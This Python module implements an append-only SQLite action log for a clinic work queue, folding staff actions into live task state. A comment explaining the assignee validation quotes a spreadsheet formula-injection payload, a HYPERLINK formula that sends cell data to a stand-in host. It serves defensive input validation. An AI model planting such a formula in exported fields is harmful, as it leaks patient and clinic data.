"""Work-queue actions: an append-only event log in app.sqlite (SQLite, WAL), folded into live task state.

Why append-only: two people acting on the same task must both be recorded and nothing may be lost; the
state a user sees is a fold of the events, computed on read, so an action is visible to every session at once
without waiting for a rebuild. The next build copies this table (with SQLite's backup API), counts it (e.g. as
the first contact of a referral) and applies it to marts.work_queue_candidates by the same rule (`fold`):

1. Occurrence: a task id (`rule:entity_id`) can come back. The build's `created_at` is when the task's condition
   began; an action taken in the Work queue names it (payload `occurrence`, to the second). Once the build's
   created_at is later (the visit the action booked was attended and again nothing is next, a second evaluation
   no-show), that action and every earlier one are history only and the task is a fresh open one.
2. Closed is final for the occurrence: the first action that closes it (mark_lost; a confirm, or an outreach
   whose outcome closes it) decides; a later row (a queued message delivered afterwards) does not reopen it.
3. Otherwise the latest action decides: a snooze hides the task until its end (the clinic's wall clock);
   any later action, or another snooze, replaces it.

Schema (interfaces.md section 4):
    actions(action_id INTEGER PK, task_id, action, actor, acted_at UTC ISO, payload JSON)
    audit_log(id INTEGER PK, actor, role, event, detail, at)
"""

from __future__ import annotations

import json
import random
import re
import sqlite3
import time
from collections.abc import Iterable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, tzinfo
from pathlib import Path
from typing import Any

from app.lib.formatting import reference_now
from app.lib.queue_vocabulary import outcomes, rules
from ptpulse.core.action_log import append_action

ACTIONS: tuple[str, ...] = ("claim", "assign", "log_outreach", "snooze", "mark_lost", "confirm")
METHODS: tuple[str, ...] = ("call", "sms", "email")
# Outreach outcomes, their labels, which count as a contact and which close the task: written once in
# dbt_project/seeds/work_queue_outcomes.csv (a dbt seed too), read by app/lib/queue_vocabulary.
OUTCOMES: Mapping[str, str] = {k: o.label for k, o in outcomes().items()}
# Outcomes where a person was actually spoken to (the build counts these as "contacted").
REACHED_OUTCOMES: frozenset[str] = frozenset(k for k, o in outcomes().items() if o.counts_as_contact)
# An outreach with one of these outcomes finishes the task; any other outcome keeps it open for follow-up.
CLOSING_OUTCOMES: frozenset[str] = frozenset(k for k, o in outcomes().items() if o.closes_task)
# The rules whose tasks the build emits (marts.work_queue_candidates): their created_at is when the condition began,
# so an action names that occurrence. A model's task (ml.work_queue_tasks: one appointment, one claim) has one
# occurrence; its created_at is the scoring time, which moves with every build.
OCCURRENCE_RULES: frozenset[str] = frozenset(k for k, r in rules().items() if r.emitted_by == "work_queue_candidates")


# The actions' order in a fold, the build's too: acted_at to the second (UTC ISO), then action_id.
def fold_order(alias: str = "") -> str:
    """The ORDER BY of a fold (`alias`: the actions table's alias with its dot, e.g. 'a.')."""
    return f"substr(replace({alias}acted_at, 'T', ' '), 1, 19), {alias}action_id"


FOLD_ORDER = fold_order()
LOST_REASONS: tuple[str, ...] = (
    "Chose another provider",
    "Insurance / cost",
    "No longer needs therapy",
    "Unreachable after attempts",
    "Physician cancelled referral",
    "Moved away",
    "Other",
)

SCHEMA = f"""
create table if not exists actions (
    action_id integer primary key autoincrement,
    task_id   text not null,
    action    text not null check (action in ({",".join(f"'{a}'" for a in ACTIONS)})),
    actor     text not null,
    acted_at  text not null,
    payload   text not null default '{{}}'
);
create index if not exists actions_task on actions(task_id, acted_at, action_id);
create table if not exists audit_log (
    id     integer primary key autoincrement,
    actor  text not null,
    role   text not null,
    event  text not null,
    detail text not null default '{{}}',
    at     text not null
);
create index if not exists audit_at on audit_log(at);
"""


# Who a task may be assigned to: a staff member as the app knows them, their sign-in identity (auth.User.email, lower
# case: `person`): an email address, or a bare user name where a directory has no domains (tests, demo set-ups).
# Never free text: the assignee is shown in the Work queue and its exports, and a value such as
# '=HYPERLINK("http://x.example/?"&E2&F2)' is a spreadsheet formula, a name and a phone number would be PHI in the
# action log. Letters and digits first (no leading = + - @), no spaces, quotes other than an apostrophe
# (o'brien@clinic.com), or brackets.
STAFF_IDENTITY = re.compile(
    r"[a-z0-9][a-z0-9._+'-]{0,63}(?:@[a-z0-9](?:[a-z0-9-]{0,62}[a-z0-9])?(?:\.[a-z0-9-]{1,63})*)?"
)


class ActionError(ValueError):
    """An action that cannot be recorded as given (says what to fix)."""


STALE_TASK = (
    "This task changed or was closed by someone else; nothing was recorded. Check the task shown now and "
    "submit again if it is still the one you meant."
)
CLOSED_STATUSES = ("done", "lost")


def person(email: str | None) -> str:
    """An email as assignees are stored and compared: trimmed, lower case. Why: the IdP may spell the
    signed-in address Ann.Lee@Clinic.com while a colleague types ann.lee@clinic.com (roles.yml already
    matches case-insensitively), and "Me" must find both."""
    return str(email or "").strip().lower()


def utc_now_iso() -> str:
    return datetime.now(UTC).isoformat(timespec="microseconds")


@contextmanager
def connect(path: Path) -> Iterator[sqlite3.Connection]:
    """A short-lived connection in WAL mode with a busy timeout, schema ensured.

    Short-lived on purpose: SQLite connections are cheap, and not sharing one across Streamlit threads
    avoids every cross-thread pitfall. busy_timeout makes concurrent writers wait instead of failing.
    """
    path.parent.mkdir(parents=True, exist_ok=True)
    con = sqlite3.connect(str(path), timeout=10.0, isolation_level=None)
    try:
        con.execute("pragma busy_timeout = 10000")
        _prepare(con)
        con.execute("pragma synchronous = normal")
        yield con
    finally:
        con.close()


def _prepare(con: sqlite3.Connection, attempts: int = 200) -> None:
    """WAL mode and the schema, safe when several sessions open a brand-new database at the same moment.

    Switching a database to WAL does not wait on SQLite's busy handler: two first users racing each get
    "database is locked" at once. So the switch (only when needed) and the schema are retried briefly.
    """
    for attempt in range(attempts):
        try:
            if con.execute("pragma journal_mode").fetchone()[0].lower() != "wal":
                con.execute("pragma journal_mode = wal")
            con.executescript(SCHEMA)
            return
        except sqlite3.OperationalError as exc:
            if "locked" not in str(exc) or attempt == attempts - 1:
                raise
            time.sleep(0.01 + random.random() * 0.02)


def validate(action: str, payload: Mapping[str, Any]) -> dict[str, Any]:
    """Check one action's payload; returns the cleaned payload or raises ActionError."""
    if action not in ACTIONS:
        raise ActionError(f"unknown action {action!r}; expected one of {', '.join(ACTIONS)}")
    clean = {k: v for k, v in payload.items() if v not in (None, "")}
    if action == "assign":
        who = person(clean.get("assignee"))
        if not who:
            raise ActionError("assign needs an assignee (who should work the task)")
        if not STAFF_IDENTITY.fullmatch(who):
            raise ActionError(
                "assign needs the assignee's sign-in email, e.g. ann.lee@clinic.com (letters, digits and . _ + ' - "
                "before the @); nothing was recorded"
            )
        clean["assignee"] = who
    if action == "log_outreach":
        if clean.get("method") not in METHODS:
            raise ActionError(f"log_outreach needs a method: one of {', '.join(METHODS)}")
        if clean.get("outcome") not in OUTCOMES:
            raise ActionError(f"log_outreach needs an outcome: one of {', '.join(OUTCOMES)}")
    if action == "snooze":
        until = clean.get("until")
        try:
            datetime.fromisoformat(str(until))
        except (TypeError, ValueError):
            raise ActionError("snooze needs 'until' as an ISO date or timestamp, e.g. 2025-03-01T09:00") from None
    if action == "mark_lost" and not clean.get("reason"):
        raise ActionError("mark_lost needs a reason (why the patient will not come)")
    return clean


def record(
    path: Path,
    task_id: str,
    action: str,
    actor: str,
    payload: Mapping[str, Any] | None = None,
    role: str = "",
    acted_at: str | None = None,
    require_open: bool = False,
    occurrence: Any = None,
) -> int:
    """Append one action (and its audit entry) in one transaction; returns the action_id.

    `occurrence`: the task's created_at as the page shows it (the build's start of its condition); stored as the
    payload's `occurrence` for the build's rule tasks (OCCURRENCE_RULES), so the action covers that occurrence only.
    With `require_open` (the work-queue forms), a task that is done or lost in that occurrence by the time the write
    transaction starts is refused with STALE_TASK: checked under the write lock, so a colleague's close cannot slip
    between."""
    if not task_id:
        raise ActionError("an action needs a task_id")
    clean = validate(action, payload or {})
    if (key := occurrence_key(task_id, occurrence)) is not None:
        clean["occurrence"] = key
    at = acted_at or utc_now_iso()
    with connect(path) as con:
        con.execute("begin immediate")
        try:
            if require_open:
                rows = con.execute(
                    "select task_id, action, actor, acted_at, payload from actions where task_id = ? "
                    f"order by {FOLD_ORDER}",
                    (task_id,),
                ).fetchall()
                state = fold(rows, {task_id: occurrence}).get(task_id)
                if state is not None and state.status in CLOSED_STATUSES:
                    raise ActionError(STALE_TASK)
            action_id = append_action(con, task_id, action, actor, role, at, clean)
            con.execute("commit")
        except BaseException:
            con.execute("rollback")
            raise
    return action_id


def _wall(value: Any) -> datetime | None:
    """A time as naive wall-clock datetime (pandas Timestamps and ISO text too); None when missing or unreadable."""
    if value is None or value != value:  # None, NaN, NaT
        return None
    try:
        dt = value if isinstance(value, datetime) else datetime.fromisoformat(str(value))
    except ValueError:
        return None
    return datetime(dt.year, dt.month, dt.day, dt.hour, dt.minute, dt.second, dt.microsecond)


def occurrence_key(task_id: str, created_at: Any) -> str | None:
    """The occurrence an action on this task is taken on, as its payload stores it: the build's created_at (when
    the task's condition began) to the second, e.g. '2026-10-02T09:00:00'. None for a task the build does not
    emit (a model's task: one occurrence) or without a time."""
    start = _wall(created_at)
    if start is None or str(task_id).split(":", 1)[0] not in OCCURRENCE_RULES:
        return None
    return start.replace(microsecond=0).isoformat()


def of_past_occurrence(payload: Mapping[str, Any], created_at: Any) -> bool:
    """Whether an action (its payload) names an occurrence that began before the task's current one (`created_at`,
    from the build): at least a second earlier, as the build compares them."""
    named, current = _wall(payload.get("occurrence")), _wall(created_at)
    if named is None or current is None:
        return False
    return current >= named.replace(microsecond=0) + timedelta(seconds=1)


@dataclass(frozen=True)
class TaskState:
    """The live state of one task's current occurrence after folding its actions (module docstring: the rule)."""

    task_id: str
    status: str  # open, snoozed, done, lost
    assignee: str | None
    snoozed_until: str | None
    last_action: str
    last_actor: str
    last_at: str
    last_outreach: str | None  # e.g. "call: No answer"
    outreach_count: int
    lost_reason: str | None
    actions: int


def status_after(action: str, payload: Mapping[str, Any]) -> str:
    """The status a task has when this action is its latest one."""
    if action == "snooze":
        return "snoozed"
    if action == "mark_lost":
        return "lost"
    if action == "confirm":
        return "done"
    if action == "log_outreach" and payload.get("outcome") in CLOSING_OUTCOMES:
        return "done"
    return "open"


def fold(
    rows: Iterable[tuple[str, str, str, str, str]], occurrences: Mapping[str, Any] | None = None
) -> dict[str, TaskState]:
    """Fold (task_id, action, actor, acted_at, payload) rows, in FOLD_ORDER, into TaskState per task.

    `occurrences`: task_id -> the task's created_at in the build (its current occurrence). An action naming an
    earlier occurrence ends the task's past: it and every earlier action are history only (a task with nothing
    after them has no state: a fresh open task). Then the first closing action closes it for good, else the latest
    action decides (the module docstring's rule; the build applies the same)."""
    occurrences = occurrences or {}
    by_task: dict[str, list[tuple[str, str, str, dict[str, Any]]]] = {}
    for task_id, action, actor, acted_at, payload_text in rows:
        payload = json.loads(payload_text or "{}")
        kept = by_task.setdefault(task_id, [])
        if of_past_occurrence(payload, occurrences.get(task_id)):
            kept.clear()  # this action and every earlier one belong to a past occurrence
            continue
        kept.append((action, actor, acted_at, payload))
    state: dict[str, dict[str, Any]] = {}
    for task_id, current in by_task.items():
        if not current:
            continue
        s = state[task_id] = {
            "status": "open",
            "assignee": None,
            "snoozed_until": None,
            "last_outreach": None,
            "outreach_count": 0,
            "lost_reason": None,
            "actions": 0,
        }
        for action, actor, acted_at, payload in current:
            s["actions"] += 1
            if s["status"] not in CLOSED_STATUSES:  # closed is final for the occurrence
                s["status"] = status_after(action, payload)
            s.update(last_action=action, last_actor=actor, last_at=acted_at)
            if action == "claim":
                s["assignee"] = person(actor) or None
            elif action == "assign":  # older rows may be mixed case: compared in lower case (person)
                s["assignee"] = person(payload.get("assignee")) or None
            elif action == "log_outreach":
                s["outreach_count"] += 1
                outcome = payload.get("outcome")
                s["last_outreach"] = f"{payload.get('method')}: {OUTCOMES.get(outcome, outcome)}"
            elif action == "snooze" and s["status"] == "snoozed":
                s["snoozed_until"] = str(payload.get("until"))
            elif action == "mark_lost" and s["status"] == "lost" and s["lost_reason"] is None:
                s["lost_reason"] = payload.get("reason")
            if s["status"] != "snoozed":
                s["snoozed_until"] = None
    return {tid: TaskState(task_id=tid, **s) for tid, s in state.items()}


def task_states(
    path: Path, task_ids: Iterable[str] | None = None, occurrences: Mapping[str, Any] | None = None
) -> dict[str, TaskState]:
    """Live state for the given tasks (or every task with an action), in FOLD_ORDER. `occurrences`: task_id -> the
    build's created_at of the task (the Work queue passes its candidates'), so an action of a past occurrence is
    history only (`fold`)."""
    if not path.exists():
        return {}
    every = f"select task_id, action, actor, acted_at, payload from actions order by {FOLD_ORDER}"
    with connect(path) as con:
        if task_ids is None:
            rows = con.execute(every).fetchall()
        else:
            ids = list(dict.fromkeys(task_ids))
            if not ids:
                return {}
            if con.execute("select count(*) from actions").fetchone()[0] <= len(ids):
                # staff actions are few next to a chain's ~100k candidates: read them all and keep the wanted
                # ones, instead of writing every candidate id into a temp table on each page run
                wanted = set(ids)
                return fold([r for r in con.execute(every).fetchall() if r[0] in wanted], occurrences)
            con.execute("create temp table wanted(task_id text primary key)")
            con.executemany("insert or ignore into wanted values (?)", [(t,) for t in ids])
            rows = con.execute(
                "select a.task_id, a.action, a.actor, a.acted_at, a.payload from actions a "
                f"join wanted w using (task_id) order by {fold_order('a.')}"
            ).fetchall()
    return fold(rows, occurrences)


def history(path: Path, task_id: str) -> list[dict[str, Any]]:
    """Every action on one task, oldest first (both users' actions, nothing lost)."""
    if not path.exists():
        return []
    with connect(path) as con:
        rows = con.execute(
            f"select action_id, action, actor, acted_at, payload from actions where task_id = ? order by {FOLD_ORDER}",
            (task_id,),
        ).fetchall()
    return [
        {"action_id": r[0], "action": r[1], "actor": r[2], "acted_at": r[3], **json.loads(r[4] or "{}")} for r in rows
    ]


def is_visible(state: TaskState | None, now_iso: str) -> bool:
    """Whether a task belongs in the open queue now: no action yet, open, or its snooze has run out.

    `now_iso`: the task's clinic's wall clock (clinic_now), as snooze ends are written ('until 08:00' there)."""
    if state is None or state.status == "open":
        return True
    if state.status == "snoozed":
        return (state.snoozed_until or "") <= now_iso
    return False


def clinic_now(zone: tzinfo | None, as_of: Any = None, at: datetime | None = None) -> datetime:
    """'Now' on a clinic's wall clock (naive), the clock its due times and snooze ends are written in: the instant
    `at` (default: now) in the clinic's zone (None: the server's), or the data's as_of when the data is not
    current (formatting.reference_now). Never the server's clock for a clinic in another zone."""
    instant = at if at is not None else datetime.now(UTC)
    if instant.tzinfo is None:
        instant = instant.astimezone()  # a naive time is the server's clock
    wall = (instant.astimezone(zone) if zone is not None else instant.astimezone()).replace(tzinfo=None)
    return reference_now(as_of, wall)


def assignees(path: Path, task_ids: Iterable[str] | None = None) -> list[str]:
    """People who have claimed or been assigned tasks (for the assignee filter), each once in lower case.

    `task_ids`: only those tasks' people, the tasks in the user's view (the Work queue passes its candidates, already
    cut to the user's clinics): a desk limited to one clinic is not shown who works the other clinics' tasks. None:
    every task in the log."""
    if not path.exists():
        return []
    wanted = None if task_ids is None else set(task_ids)
    with connect(path) as con:  # staff actions are few: read them and keep the wanted tasks' (as task_states)
        rows = con.execute(
            "select distinct task_id, coalesce(json_extract(payload, '$.assignee'), actor) from actions "
            "where action in ('claim','assign')"
        ).fetchall()
    return sorted({person(who) for task, who in rows if person(who) and (wanted is None or task in wanted)})
